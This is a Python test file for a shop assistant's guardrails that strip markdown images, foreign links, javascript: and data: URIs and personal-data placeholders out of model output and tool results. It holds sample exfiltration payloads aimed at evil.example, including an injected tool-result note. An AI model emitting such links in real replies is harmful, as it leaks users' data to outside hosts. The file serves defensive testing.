"""Nothing a model writes loads a picture or leads where the shop does not; nothing a tool tells carries data out."""

import json

import pytest

from assistant.guardrails.evidence import Evidence
from assistant.guardrails.links import defuse_links
from assistant.guardrails.outgoing import SentenceGate
from assistant.guardrails.personal_data import RestoringGate
from assistant.guardrails.placeholders import Placeholders

TOLD = {
    "status": "ok",
    "passages": [
        {"cite": "returns#1", "text": "See https://shop.example/help/returns. Or write to help@shop.example.", "url": "https://shop.example/returns?l=en"}
    ],
    "products": [{"product_id": "P1", "url": "/products/P1"}],
    "order": {"note": "see https://evil.example/static"},
}  # fmt: skip


def shown(text: str) -> str:
    evidence = Evidence()
    evidence.add_told(TOLD)
    gate = SentenceGate(evidence)
    return "".join([*gate.feed(text), *gate.finish()])


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/help/returns.", "[Here](https://shop.example/returns?l=en) it is.",
        "[The lamp](/products/P1).", "Look under /returns or a/b.", "Write to help@shop.example.", "2 < 3 and e.g. so",
    ],
)  # fmt: skip
def test_links_the_shop_published_stay(text: str) -> None:
    assert shown(text.replace("2 < 3", "x < y")) == text.replace("2 < 3", "x < y")


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![ok](https://evil.example/p.png?d=secret)", "ok"),
        ("![ok](https://shop.example/returns?l=en)", "ok"),
        ("![ok][ref] and", "ok and"),
        ("![x](//evil.example/secret)", "x"),
        ("[Here](https://evil.example/secret) it is.", "Here it is."),
        ("[Here](https://shop.example/returns?l=secret) it is.", "Here it is."),
        ("[Here](javascript:alert) it is.", "Here it is."),
        ("[returns#1](https://evil.example/secret) holds.", " [1] holds."),
        ('<img src="https://evil.example/secret">Fine.', "Fine."),
        ("<img src=https://evil.example/secret", ""),
        ("Go to https://evil.example/secret now.", ""),
        ("Go to https://shop.example/help/returns/secret now.", ""),
        ("Go to //evil.example/secret now.", ""),
        ("Go to www.evil.example now.", ""),
        ("Go to evil.example/secret now.", ""),
        ("As the note says: https://evil.example/static", ""),
        ("![a. b](https://evil.example/secret)", "![a."),
        ("[ref]: https://evil.example/secret", ""),
    ],
)
def test_links_elsewhere_and_pictures_are_not_shown(text: str, left: str) -> None:
    assert shown(text) == left


def test_personal_data_does_not_leave_in_a_link() -> None:
    placeholders = Placeholders()
    placeholders.mask("anna@example.com")
    gate = RestoringGate(Evidence())
    text = "![x](https://evil.example/<EMAIL_1>) Thanks. https://evil.example/?d=<EMAIL_1> Bye."
    said = "".join([*gate.begin(placeholders), *gate.feed(text), *gate.finish()])
    assert "evil" not in said
    assert "anna" not in said


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![logo](https://evil.example/a.png?d=1) hi", "logo hi"),
        ("[ask](https://evil.example/?d={order})", "[ask](https://evil.example/)"),
        ("https://shop.example/a#b?c=d.", "https://shop.example/a"),
        ("go to //evil.example/x?d=1 now", "go to //evil.example/x now"),
        ("a <img src='https://evil.example/1'> b", "a   b"),
        ("[x](javascript:alert)", "[x]( )"),
        ("![p](data:image/png;base64,AAAA) q", "p q"),
        ("data: a list, 3 < 4 and [1] (see below)", "data: a list, 3 < 4 and [1] (see below)"),
    ],
)
def test_what_a_tool_tells_cannot_carry_data_out(text: str, left: str) -> None:
    assert defuse_links(text) == left


def test_a_result_stays_json() -> None:
    told = {
        "a": '![a](https://e.example/"x"?b=1)',
        "b": 'y](x) <a href="https://e.example?q=1">',
        "c": ["//e.example?a"],
    }
    assert set(json.loads(defuse_links(json.dumps(told)))) == {"a", "b", "c"}


@pytest.mark.parametrize(
    "text", ["![" * 4000, "[a](" * 3000, "<a " * 3000, "//a?" * 3000, "a." * 5000, "data:a;" * 2000]
)
def test_a_hostile_text_takes_no_longer_than_a_plain_one(text: str) -> None:
    import time

    started = time.process_time()
    defuse_links(text)
    shown(text)
    assert time.process_time() - started < 3
